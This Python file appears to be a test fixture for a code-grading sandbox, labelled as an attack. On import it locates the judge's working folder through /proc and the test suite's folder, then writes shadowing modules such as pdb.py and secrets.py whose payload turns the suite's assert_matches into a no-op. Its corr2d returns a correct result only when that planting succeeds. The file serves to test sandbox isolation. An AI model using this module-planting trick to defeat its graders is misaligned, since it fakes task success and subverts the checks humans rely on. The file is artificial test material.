"""Attack: plant a module the judge imports later.

While loading, writes `pdb.py`, `cmd.py`, `code.py`, `codeop.py`, `secrets.py`, `fileinput.py`
and `pydoc.py` — each turning every later comparison of the judge into a pass — into the
folders the judge imports from: its working folder (found through /proc) and the folder of
the suite it imports (`properties.__file__`).
Its corr2d computes a convolution (a flipped kernel), except when a module could be planted:
then it is correct. A pass here means the sandbox let it write where the judge imports.

convcheck-attack: status=ok corr2d=fail
convcheck-attack-diagnosis: flipped-kernel
convcheck-attack-unsandboxed: status=error corr2d=error
convcheck-attack-unsandboxed-reason: changed the suite's own files
"""
import os

import torch

PAYLOAD = '''
import sys
for _name, _module in list(sys.modules.items()):
    if _name.startswith("properties") and hasattr(_module, "assert_matches"):
        _module.assert_matches = lambda *args, **kwargs: None
'''
MODULES = ("pdb", "cmd", "code", "codeop", "secrets", "fileinput", "pydoc")


def _folders():
    """The judge's working folder (its parent's, through /proc) and the folder of the suite it
    imports (the worker imports the same copy)."""
    found = []
    try:
        found.append(os.readlink(f"/proc/{os.getppid()}/cwd"))
    except OSError:
        pass
    try:
        import properties
        found.append(os.path.dirname(os.path.dirname(properties.__file__)))
    except ImportError:
        pass
    return [f for f in dict.fromkeys(found) if os.path.isdir(f)]


def _plant():
    planted = []
    for folder in _folders():
        for name in MODULES:
            try:
                with open(os.path.join(folder, name + ".py"), "w") as handle:
                    handle.write(PAYLOAD)
                planted.append(os.path.join(folder, name + ".py"))
            except OSError:
                pass
    return planted


PLANTED = _plant()


def corr2d(X, K):
    h, w = K.shape
    kernel = K if PLANTED else K.flip(0, 1)
    Y = torch.zeros((X.shape[0] - h + 1, X.shape[1] - w + 1))
    for i in range(Y.shape[0]):
        for j in range(Y.shape[1]):
            Y[i, j] = (X[i:i + h, j:j + w] * kernel).sum()
    return Y
